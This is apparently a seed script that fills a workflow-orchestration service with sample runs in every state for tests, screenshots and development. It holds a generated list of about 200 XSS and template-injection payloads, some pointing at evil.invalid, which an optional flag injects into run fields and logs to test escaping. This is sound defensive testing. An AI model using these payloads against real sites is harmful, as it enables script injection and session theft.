// Fills a service with runs that show every state: the documents of the tests, of the screenshots and of development.
//
//   node seed.mjs URL TOKEN [--slow]
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { pathToFileURL } from 'node:url';

const node = (id, bash, more = {}) => ({ id, ...more, bash });
const step = (id, after, command = 'true', more = {}) => ({ stepId: id, kind: 'shell', dependsOn: after, with: { command }, ...more });
const plan = (planId, steps, more = {}) => ({ metadata: { planId, planVersion: '1.0', schemaVersion: 'v1.2' }, steps, ...more });

// 200 strings that would run or show something, were they taken for markup: handlers of elements, places where a text ends and markup begins,
// addresses that are scripts, templates, and ways to hide any of them.
const js = 'window.pwned=1';
const handlers = ['img src=x onerror', 'svg onload', 'body onload', 'input autofocus onfocus', 'details open ontoggle', 'video src=x onerror', 'audio src=x onerror', 'marquee onstart', 'select autofocus onfocus', 'textarea autofocus onfocus', 'iframe onload', 'object data=x onerror', 'embed src=x onerror', 'style onload', 'link rel=stylesheet href=x onerror', 'math onmouseover', 'a id=x tabindex=1 onfocus', 'form onsubmit', 'keygen autofocus onfocus', 'isindex type=image src=1 onerror'];
const ends = ['', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->'];
const addresses = ['javascript:' + js, 'JaVaScRiPt:' + js, 'java\tscript:' + js, '&#106;avascript:' + js, 'data:text/html,<script>' + js + '</script>', 'vbscript:' + js];
export const attacks = [...new Set([
  `<script>${js}</script>`, `'-${js}-'`, '\u202eevil\u202c', '<style>*{display:none}</style>', '<base href=//evil.invalid>', `<math><mtext></p><script>${js}</script>`, `<!--<img src="--><img src=x onerror=${js}>`, `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  ...handlers.flatMap(h => [`<${h}=${js}>`, `<${h}="${js}" x=`, `<${h.toUpperCase()}=${js}//`, `<${h.replace(' ', '/')}=${js}>`]),
  ...ends.slice(1).flatMap(e => [`${e}<script>${js}</script>`, `${e}<svg onload=${js}>`, `${e}<img src=x onerror=${js}>`, `${e}<script src=//evil.invalid/x.js></script>`]),
  ...addresses.flatMap(a => [`<a href="${a}">x</a>`, `<iframe src="${a}"></iframe>`, `<form action="${a}"><button>x</button></form>`, `<object data="${a}"></object>`]),
  ...['constructor.constructor("' + js + '")()', '7*7', '$eval("' + js + '")', '[].constructor.constructor("' + js + '")()'].flatMap(e => [`{{${e}}}`, `\${${e}}`, `<%=${e}%>`, `#{${e}}`]),
  ...['<', '<<', '< ', '<\u0000', '&lt;', '&#60;', '\\u003c', '\uff1c', '%3C', '<!'].flatMap(o => [`${o}script>${js}${o}/script>`, `${o}img src=x onerror=${js}>`]),
  ...['onclick', 'onmouseover', 'style'].flatMap(n => [`" ${n}="${js}`, `' ${n}='${js}`, `\` ${n}=\`${js}`]),
  '<svg><animate onbegin=' + js + ' attributeName=x dur=1s>', '<svg><set onbegin=' + js + ' attributeName=x to=0>', '<svg><use href="data:image/svg+xml,<svg onload=' + js + '>">', '<template><script>' + js + '</script></template>', '<noscript><p title="</noscript><img src=x onerror=' + js + '>">', '<meta http-equiv=refresh content="0;url=javascript:' + js + '">', '<xmp><script>' + js + '</script></xmp>', '<plaintext>', '<frameset onload=' + js + '>', '<x contenteditable onblur=' + js + '>x', '<div style="position:fixed;inset:0;background:red">', '<link rel=import href=//evil.invalid>', '<img src=`x` onerror=' + js + '>', '<image src=x onerror=' + js + '>', '<svg/onload=' + js + '//', '<script>/*\u2028*/' + js + '</script>', '<img srcset=x onerror=' + js + '>', '<bdo dir=rtl>evil</bdo>', '<portal src=//evil.invalid onload=' + js + '>', 'https://evil.invalid/?q=<script>' + js + '</script>',
].filter(t => !t.includes('\u0000')))].slice(0, 200);

export const documents = {
  orders: {
    name: 'orders-import', description: 'Yesterday\'s orders into the warehouse', inputs: { day: '2026-11-15', region: 'eu' },
    nodes: [
      node('extract', "sleep 0.3; echo 'reading orders of $INPUTS.day' >&2; echo '{\"rows\": 18244, \"files\": 3}'"),
      node('validate', "sleep 0.2; echo '{\"bad\": 0}'", { depends_on: ['extract'] }),
      node('exchange-rates', "echo 'GET rates' >&2; if [ \"$CAIRN_ATTEMPT\" -lt 2 ]; then echo 'HTTP 503 from the rates service' >&2; exit 75; fi; sleep 0.1; echo '{\"EUR\": 1, \"USD\": 1.09}'",
        { depends_on: ['extract'], retry: { max_attempts: 3, delay_ms: 1000, on_error: 'all' } }),
      node('audit-copy', 'sleep 0.3; echo kept', { depends_on: ['validate'] }),
      node('load', "printf '\\033[2mpsql\\033[0m connecting to warehouse-eu:5432\\n' >&2; sleep 0.1; printf 'COPY \\033[36morders_2026_11\\033[0m FROM STDIN (attempt %s)\\n' \"$CAIRN_ATTEMPT\" >&2; sleep 0.1; printf '\\033[31mERROR:  relation \"orders_2026_11\" does not exist\\033[0m\\n' >&2; exit 1",
        { depends_on: ['validate', 'exchange-rates'], retry: { max_attempts: 2, delay_ms: 1000, on_error: 'all' } }),
      node('refresh-marts', 'echo ok', { depends_on: ['load'] }),
      node('notify', 'echo sent', { depends_on: ['refresh-marts', 'audit-copy'] }),
      node('report', "sleep 0.1; echo 'report of $INPUTS.day'", { depends_on: ['load', 'audit-copy'], trigger_rule: 'all_done' }),
    ],
  },
  release: {
    name: 'release', inputs: { channel: 'stable' },
    nodes: [
      node('build', "sleep 0.2; echo '{\"file\": \"cairn-1.4.2.tar\", \"sha\": \"9f2c41d07a1e\"}'"),
      node('unit-tests', 'if [ "$CAIRN_ATTEMPT" -lt 2 ]; then echo "test_clock failed" >&2; exit 1; fi; echo "412 tests passed"', { depends_on: ['build'], retry: { max_attempts: 2, delay_ms: 1000, on_error: 'all' } }),
      node('fuzz', 'sleep 0.2; echo 100000', { depends_on: ['build'] }),
      node('nightly-symbols', 'echo no', { depends_on: ['build'], when: "$INPUTS.channel == 'nightly'" }),
      node('sign', 'sleep 0.1; echo signed', { depends_on: ['unit-tests', 'fuzz', 'nightly-symbols'], trigger_rule: 'none_failed_min_one_success' }),
      { id: 'ship', depends_on: ['sign'], approval: { message: 'Ship $build.output.file (sha256 $build.output.sha) to $INPUTS.channel?', timeout: '4h', on_timeout: 'reject' } },
      node('publish', 'echo published', { depends_on: ['ship'] }),
      node('announce', 'echo announced', { depends_on: ['publish'] }),
    ],
  },
  upgrade: {
    name: 'cluster-upgrade',
    nodes: [node('snapshot', 'sleep 0.1; echo ok'), node('drain', 'sleep 0.2; echo drained', { depends_on: ['snapshot'] }), node('upgrade', 'sleep ${UPGRADE:-1}; echo v1.31', { depends_on: ['drain'] }), node('uncordon', 'echo ready', { depends_on: ['upgrade'] })],
  },
  transcode: {
    name: 'video-transcode',
    nodes: [node('probe', "echo '{\"seconds\": 5400}'"), ...['1080p', '720p', '480p', '360p'].map((size, i) => node('seg-' + size, i === 2 ? 'echo "encoder crashed" >&2; exit 1' : 'for i in 1 2 3; do echo "segment $i of 120" >&2; sleep 0.1; done; sleep ' + (i === 1 ? 900 : 0) + '; echo done', { depends_on: ['probe'], ...(i === 2 ? { retry: { max_attempts: 5, delay_ms: 60000, on_error: 'all' } } : {}) })), node('mux', 'echo muxed', { depends_on: ['seg-1080p', 'seg-720p', 'seg-480p', 'seg-360p'] }), node('publish', 'echo published', { depends_on: ['mux'] })],
  },
  warehouse: (() => {
    const subjects = ['orders', 'products', 'payments', 'refunds', 'customers', 'sessions', 'tickets', 'campaigns'], nodes = [node('plan-day', 'echo 2026-11-15')];
    for (const s of subjects) nodes.push(node('extract-' + s, 'echo ' + s, { depends_on: ['plan-day'] }), node('clean-' + s, 'echo ' + s, { depends_on: ['extract-' + s] }), node('stage-' + s, 'echo ' + s, { depends_on: ['clean-' + s] }));
    nodes.push(node('full-rebuild', 'true', { depends_on: ['plan-day'], when: "$plan-day.output == 'sunday'" }));
    nodes.push(node('dim-product', 'true', { depends_on: ['stage-products', 'stage-payments'] }), node('dim-customer', 'true', { depends_on: ['stage-customers', 'stage-sessions'] }));
    nodes.push(node('fact-order', 'true', { depends_on: ['stage-orders', 'dim-product', 'dim-customer'] }), node('fact-refund', 'true', { depends_on: ['stage-refunds', 'fact-order'] }), node('fact-ticket', 'true', { depends_on: ['stage-tickets', 'dim-customer'] }), node('fact-session', 'true', { depends_on: ['stage-sessions', 'dim-customer'] }));
    nodes.push(node('mart-revenue', 'true', { depends_on: ['fact-order', 'fact-refund'] }), node('mart-support', 'true', { depends_on: ['fact-ticket', 'fact-refund'] }), node('mart-growth', 'true', { depends_on: ['fact-session', 'stage-campaigns'] }));
    for (const m of ['revenue', 'support', 'growth']) nodes.push(node('check-' + m, 'true', { depends_on: ['mart-' + m] }));
    nodes.push(node('publish', 'true', { depends_on: ['check-revenue', 'check-support', 'check-growth', 'full-rebuild'], trigger_rule: 'none_failed_min_one_success' }), node('vacuum', 'true', { depends_on: ['publish'] }));
    return { name: 'warehouse-refresh', nodes };
  })(),
  geocode: {
    apiVersion: 'noetl.io/v2', kind: 'Playbook', metadata: { name: 'geocode', path: 'playbooks/geocode' }, workload: { cities: Array.from({ length: 12 }, (_, i) => 'city ' + i) },
    workflow: [
      { step: 'start', next: { spec: { mode: 'inclusive' }, arcs: [{ step: 'lookup' }] } },
      { step: 'lookup', loop: { in: '{{ cities }}', iterator: 'city', spec: { mode: 'parallel', max_in_flight: 3 } }, tool: { kind: 'shell', cmds: ["printf '%s' \"{{ iter.city }}\""] }, next: { arcs: [{ step: 'store', when: "{{ event.name == 'loop.done' }}" }, { step: 'give_up', when: "{{ event.name == 'step.failed' }}" }] } },
      { step: 'store', tool: { kind: 'shell', cmds: ['echo stored'] } },
      { step: 'give_up', tool: { kind: 'shell', cmds: ['echo gave up'] } },
    ],
  },
  hold: plan('nightly-backup', [step('dump', [], 'echo 42 tables'), step('upload', ['dump'], 'echo "403 from the bucket: the key has expired" >&2; exit 1'), step('verify', ['upload'], 'echo ok')], { metadata: { planId: 'nightly-backup', planVersion: '2.1', schemaVersion: 'v1.2', onStepFailure: 'hold' } }),
};

export const hostile = text => ({
  name: 'x ' + text, description: text, inputs: { text },
  nodes: [node('say', "cat <<'EOF' >&2\n" + text + "\nEOF\ncat <<'EOF'\n" + JSON.stringify({ text }) + '\nEOF'), node('fail', "cat <<'EOF' >&2\n" + text + "\nEOF\nexit 1", { depends_on: ['say'] })],
});
// All of them through one run: inputs, description, tags, outputs, logs and the error.
export const hostileAll = () => ({
  name: 'x ' + attacks[0], description: attacks[1], tags: attacks, inputs: { all: attacks },
  nodes: [node('say', "cat <<'EOF' >&2\n" + attacks.join('\n') + "\nEOF\ncat <<'EOF'\n" + JSON.stringify({ all: attacks }) + '\nEOF'), node('fail', "cat <<'EOF' >&2\n" + attacks.join('\n') + "\n<b>" + attacks[2] + "</b>\nEOF\nexit 1", { depends_on: ['say'] })],
});
export const fan = n => plan('fan-' + n, [step('first', [], 'true', { kind: 'echo', with: { message: 'go' } }), ...Array.from({ length: n - 2 }, (_, i) => ({ stepId: 'part-' + i, kind: 'echo', dependsOn: ['first'], with: { message: String(i) } })), { stepId: 'last', kind: 'merge', dependsOn: Array.from({ length: n - 2 }, (_, i) => 'part-' + i) }]);

export class Service {
  constructor(url, token) { this.url = url; this.token = token; }
  async ask(method, path, body) {
    const answer = await fetch(this.url + path, { method, headers: { Authorization: 'Bearer ' + this.token, ...(body ? { 'Content-Type': 'application/json' } : {}) }, body: body && JSON.stringify(body) });
    const text = await answer.text();
    if (!answer.ok) throw new Error(method + ' ' + path + ': ' + answer.status + ' ' + text);
    return text ? JSON.parse(text) : null;
  }
  start(document, more = {}) { return this.ask('POST', '/v1/runs', { document: JSON.stringify(document), ...more }); }
  run(id) { return this.ask('GET', '/v1/runs/' + encodeURIComponent(id)); }
  signal(id, signalType, payload = {}) { return this.ask('POST', '/v1/runs/' + encodeURIComponent(id) + '/signals', { signalId: randomUUID(), signalType, payload }); }
  async until(id, holds, what = 'the state') {
    for (let i = 0; i < 1200; i++) { const run = await this.run(id); if (holds(run)) return run; await new Promise(r => setTimeout(r, 50)); }
    throw new Error('run ' + id + ' never came to ' + what);
  }
  ended(id) { return this.until(id, run => ['COMPLETED', 'FAILED', 'CANCELLED'].includes(run.status), 'its end'); }
}

// The runs, by name. What takes a person's time (retries) is waited for last.
export async function seed(service, which = Object.keys(documents)) {
  const ids = {}, wait = [];
  const start = async (name, document, more) => { ids[name] = (await service.start(document, more)).runId; return ids[name]; };
  const has = name => which.includes(name);
  if (has('warehouse')) wait.push(service.ended(await start('warehouse', documents.warehouse)));
  if (has('geocode')) wait.push(service.ended(await start('geocode', documents.geocode)));
  if (has('orders')) wait.push(service.ended(await start('orders', documents.orders)));
  if (has('orders')) { await start('ordersBefore', { ...documents.orders, nodes: documents.orders.nodes.filter(n => n.id !== 'load').map(n => n.depends_on ? { ...n, depends_on: n.depends_on.filter(d => d !== 'load') } : n) }); wait.push(service.ended(ids.ordersBefore)); }
  if (has('hold')) { await start('hold', documents.hold); wait.push(service.until(ids.hold, r => r.steps.some(s => s.held), 'a held step')); }
  if (has('release')) { await start('release', documents.release); wait.push(service.until(ids.release, r => r.substatus === 'WAITING_APPROVAL' || r.steps.some(s => s.stepId === 'ship' && s.status === 'RUNNING'), 'its gate')); }
  if (has('upgrade')) {
    await start('upgraded', documents.upgrade); wait.push(service.ended(ids.upgraded));
    const paused = await start('paused', documents.upgrade); await service.signal(paused, 'PAUSE', { reason: 'on-call asked to wait for the change window' });
    const cancelled = await start('cancelled', { ...documents.upgrade, nodes: documents.upgrade.nodes.map(n => n.id === 'upgrade' ? { ...n, bash: 'sleep 60' } : n) });
    await service.until(cancelled, r => r.steps.some(s => s.stepId === 'upgrade' && s.status === 'RUNNING'), 'its upgrade'); await service.signal(cancelled, 'CANCEL', { reason: 'wrong cluster' });
    wait.push(service.ended(cancelled));
  }
  if (has('transcode')) { await start('transcode', documents.transcode); wait.push(service.until(ids.transcode, r => r.steps.some(s => s.retrying), 'a retry')); }
  await Promise.all(wait);
  return ids;
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const service = new Service(process.argv[2], process.argv[3].startsWith('cairn_') ? process.argv[3] : readFileSync(process.argv[3], 'utf8').trim());
  const ids = await seed(service);
  if (process.argv.includes('--hostile')) for (const [i, text] of attacks.entries()) ids['attack' + i] = (await service.start(hostile(text))).runId;
  console.log(JSON.stringify(ids, null, 2));
}
